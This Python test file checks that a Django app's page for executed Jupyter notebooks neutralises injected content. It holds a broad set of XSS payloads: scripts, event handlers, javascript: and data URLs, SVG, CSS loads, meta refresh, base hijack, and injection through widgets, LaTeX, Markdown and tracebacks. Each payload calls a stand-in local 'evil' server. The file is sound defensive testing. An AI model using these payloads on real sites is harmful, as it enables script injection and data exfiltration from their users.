"""Attacking the page that shows a run: in a real browser, no script runs and no request leaves."""

import json
import socketserver
import threading
from dataclasses import replace

import pytest
from django.test import Client
from django.urls import reverse

from apps.submissions import grading
from tests.submissions import conftest as desk_of_tests
from tests.submissions.conftest import fresh, graded

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# The desk of the hand-ins' own tests: an exercise without a package, runs without a runner.
desk, exercise, package = desk_of_tests.desk, desk_of_tests.exercise, desk_of_tests.package

FETCH = "fetch('«evil»/pwned');new Image().src='«site»/pwned';top.document.title='pwned'"


def html(text: str) -> dict:
    return {"output_type": "display_data", "data": {"text/html": text, "text/plain": "x"}, "metadata": {}}


def mime(kind: str, value: object, metadata: object = None) -> dict:
    return {"output_type": "display_data", "data": {kind: value, "text/plain": "x"}, "metadata": metadata or {}}


OUTPUTS: dict[str, dict] = {
    "a script": html(f"<script>{FETCH}</script>"),
    "a script in another document": html(f'<iframe srcdoc="<script>{FETCH}</script>"></iframe>'),
    "a script in an address": html(f'<iframe src="javascript:{FETCH}"></iframe><object data="javascript:{FETCH}">'),
    "a script in a data address": html(f'<iframe src="data:text/html,<script>{FETCH}</script>"></iframe>'),
    "handlers of events": html(
        f'<img src=x onerror="{FETCH}"><svg onload="{FETCH}"><body onload="{FETCH}"><details open ontoggle="{FETCH}">'
        f'<marquee onstart="{FETCH}"><input autofocus onfocus="{FETCH}"><video><source onerror="{FETCH}"></video>'
    ),
    "a drawing with a script": mime(
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{FETCH}"><script>{FETCH}</script><foreignObject>'
        f'<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;{FETCH}&lt;/script&gt;"/>'
        '</foreignObject><image href="«evil»/pwned"/><use href="«evil»/pwned#x"/></svg>',
    ),
    "a page of the site in a frame": html('<iframe src="«site»/pwned"></iframe><embed src="«site»/pwned">'),
    "a form": html(
        '<form id=f action="«site»/pwned" method=post target=_top><button>go</button></form>'
        '<form action="«evil»/pwned"><button formtarget=_top>go</button></form>'
    ),
    "links": html(
        '<a href="«evil»/pwned" target=_top ping="«evil»/pwned">go</a><a href="«evil»/pwned" target=_blank>go</a>'
        f'<a href="javascript:{FETCH}">go</a><a href="«site»/pwned" target=_parent>go</a>'
    ),
    "a refresh": html('<meta http-equiv="refresh" content="0;url=«evil»/pwned">'),
    "hints to the browser": html(
        "".join(
            f'<link rel="{kind}" href="«evil»/pwned" as="image">'
            for kind in (
                "stylesheet",
                "prefetch",
                "preload",
                "dns-prefetch",
                "icon",
                "modulepreload",
                "manifest",
                "prerender",
            )
        )
    ),
    "a connection in advance": html(
        '<link rel="preconnect" href="«evil»/"><link rel="preconnect" href="«evil»" crossorigin>'
    ),
    "a style that loads": html(
        "<style>@import url(«evil»/pwned); @font-face {font-family: x; src: url(«evil»/pwned)} "
        "body {background: url(«evil»/pwned); font-family: x; cursor: url(«evil»/pwned), auto}</style>"
        '<p style="background: url(«evil»/pwned)">x</p>'
    ),
    "another base": html('<base href="«evil»/"><img src="pwned"><script src="pwned"></script>'),
    "media": html(
        '<img src="«evil»/pwned" srcset="«evil»/pwned 2x"><video src="«evil»/pwned" poster="«evil»/pwned" autoplay>'
        '</video><audio src="«evil»/pwned" autoplay></audio><picture><source srcset="«evil»/pwned"><img></picture>'
        '<input type=image src="«evil»/pwned"><table background="«evil»/pwned">'
    ),
    "the end of the page": html(f"</div></main></body></html><script>{FETCH}</script><plaintext>"),
    "rules for speculation": html(
        '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["«evil»/pwned"]}]}</script>'
    ),
    "JavaScript as an output": mime("application/javascript", FETCH),
    "mathematics": mime(
        "text/latex",
        f"$$\\require{{html}}\\href{{javascript:{FETCH}}}{{x}}$$ \\style{{background:url(«evil»/pwned)}}{{x}}",
    ),
    "Markdown as an output": mime(
        "text/markdown", f"![x](«evil»/pwned) <script>{FETCH}</script> [x](javascript:{FETCH})"
    ),
    "a picture that ends its own tag": mime("image/png", f'x" onerror="{FETCH}" x="'),
    "a picture of a strange size": mime(
        "image/png", "iVBORw0KGgo=", {"image/png": {"width": f'1" onload="{FETCH}', "height": "<script>"}}
    ),
    "a widget": mime("application/vnd.jupyter.widget-view+json", {"model_id": f"</script><script>{FETCH}</script>"}),
    "a chart": mime("application/vnd.plotly.v1+json", {"data": [], "layout": {"title": f"<script>{FETCH}</script>"}}),
    "a text with an end": {
        "output_type": "stream",
        "name": "stdout",
        "text": f"\x1b[31m</pre><script>{FETCH}</script>\x1b]8;;«evil»/pwned\x07x\x1b]8;;\x07",
    },
    "an error": {
        "output_type": "error",
        "ename": f"<script>{FETCH}</script>",
        "evalue": f'<img src=x onerror="{FETCH}">',
        "traceback": [f"\x1b[31m<script>{FETCH}</script>", f'<img src=x onerror="{FETCH}">'],
    },
}


@pytest.fixture(scope="module")
def evil():
    """A server of the attacker's; `calls` grows with each connection, whatever is said on it."""
    calls: list[object] = []

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            calls.append(self.client_address)

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", calls
        server.shutdown()
        thread.join()


def filled(value, words: dict[str, str]):
    text = json.dumps(value, ensure_ascii=False)
    for name, word in words.items():
        text = text.replace(f"«{name}»", word)
    return json.loads(text)


@pytest.fixture
def show(chromium, live_server, settings, desk, bob, evil):
    """Show a run whose executed notebook is `cells`; whatever the browser got an answer to is in `asked`."""
    address, calls = evil
    calls.clear()
    contexts = []

    def show(cells: list[dict], **changes: object):
        run = desk.done(bob, **changes)
        words = {"evil": address, "site": live_server.url}
        state = {"m": {"model_name": "x", "model_module": "y", "state": {"z": f"</script><script>{FETCH}</script>"}}}
        widgets = {"version_major": 2, "version_minor": 0, "state": state}
        metadata = {"widgets": {"application/vnd.jupyter.widget-state+json": widgets}}
        content = filled({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}, words)
        (run.stored.path / "result" / "executed.ipynb").write_text(json.dumps(content))
        client = Client()
        client.force_login(bob)
        context = chromium.new_context(base_url=live_server.url)
        contexts.append(context)
        context.add_cookies(
            [{"name": settings.SESSION_COOKIE_NAME, "value": client.cookies["sessionid"].value, "url": live_server.url}]
        )
        asked: list[str] = []
        # What was only tried is told too, as a request that failed: an answer shows that it left.
        context.on("response", lambda response: asked.append(response.url))
        context.on("dialog", lambda dialog: asked.append("pwned: a dialog"))
        return run, context.new_page(), asked

    yield show
    for context in contexts:
        context.close()


def assert_silent(page, asked: list[str], calls: list[object]) -> None:
    page.wait_for_load_state("networkidle")
    assert [url for url in asked if "pwned" in url] == []
    assert "pwned" not in page.title()
    assert calls == []


def cell(output: dict) -> dict:
    count = {"execution_count": 1} if output["output_type"] == "execute_result" else {}
    return {
        "cell_type": "code",
        "id": "a",
        "metadata": {},
        "source": "x",
        "execution_count": 1,
        "outputs": [output | count],
    }


def look_at(run, page, asked: list[str], calls: list[object]) -> None:
    """The page of the hand-in with its frame, then the notebook on its own."""
    frame = framed(run, page)
    assert "be shown" not in frame.locator("main").inner_text()
    assert_silent(page, asked, calls)
    page.goto(reverse("submissions:notebook", args=[run.submission_id]))
    page.locator("main").wait_for()
    assert_silent(page, asked, calls)


def framed(run, page):
    """The frame of the executed notebook in the page of the hand-in."""
    page.goto(reverse("submissions:detail", args=[run.submission_id]))
    page.get_by_text("Show it here").click()
    holder = page.locator("iframe.executed")
    holder.scroll_into_view_if_needed()
    holder.content_frame.locator("main").wait_for()
    return holder.content_frame


@pytest.mark.parametrize("name", OUTPUTS)
def test_an_output_only_shows(show, evil, name):
    run, page, asked = show([cell(OUTPUTS[name])])
    look_at(run, page, asked, evil[1])


@pytest.mark.parametrize("name", ["a form", "links"])
def test_what_is_pressed_in_the_frame_leads_nowhere(show, name):
    run, page, asked = show([cell(OUTPUTS[name])])
    for place in range(framed(run, page).locator("a, button").count()):
        framed(run, page).locator("a, button").nth(place).dispatch_event("click")
        page.wait_for_load_state("networkidle")
        assert [url for url in asked if "pwned" in url] == []
        assert page.url.endswith(f"/{run.submission_id}/")
        assert page.context.pages == [page]


def test_texts_of_a_notebook_only_show(show, evil):
    text = (
        f'<script>{FETCH}</script> ![x](«evil»/pwned) <img src=«evil»/pwned onerror="{FETCH}"> [x](javascript:{FETCH}) '
        f'<meta http-equiv="refresh" content="0;url=«evil»/pwned"> $\\href{{javascript:{FETCH}}}{{x}}$'
    )
    picture = {"x.svg": {"image/svg+xml": f'<svg onload="{FETCH}"/>'}}
    code = {**cell(OUTPUTS["a script"]), "source": f"</pre><script>{FETCH}</script>"}
    run, page, asked = show(
        [
            {"cell_type": "markdown", "id": "a", "metadata": {}, "source": text, "attachments": picture},
            {"cell_type": "raw", "id": "b", "metadata": {"raw_mimetype": "text/html"}, "source": text},
            code,
        ]
    )
    look_at(run, page, asked, evil[1])


def test_what_a_run_says_only_shows(show, evil, monkeypatch):
    """Names and texts of a learner's exceptions reach the messages of checks and the reason of a run."""
    address = evil[0]
    text = (
        f"<script>fetch('{address}/pwned')</script> ![x]({address}/pwned) <img src={address}/pwned> "
        f"[x](javascript:alert(1)) <svg/onload=alert(1)> <a href='{address}/pwned'>x</a>"
    )

    def told(*arguments, **keywords):
        report = graded(*arguments, **keywords)
        checks = tuple(
            replace(check, message=text, hint=text, compared={"columns": [text], "rows": [[text]]}, plot_alt=text)
            for check in report.checks
        )
        return replace(report, checks=checks)

    monkeypatch.setattr(grading, "grade", told)
    error = {"cell": 1, "number": 1, "name": text[:90], "message": text}
    run, page, asked = show([cell(OUTPUTS["a script"])], points=(0, 0), reason=text, error=error)
    assert fresh(run).reason
    look_at(run, page, asked, evil[1])


def test_the_servers_of_the_attacker_would_be_heard(chromium, live_server, evil, db):
    """The look for requests sees them where nothing forbids them."""
    address, calls = evil
    page = chromium.new_page()
    page.set_content(f'<img src="{address}/pwned"><script>document.title = "pwned"</script>')
    page.wait_for_load_state("networkidle")
    assert page.title() == "pwned"
    assert calls
    calls.clear()
    page.close()
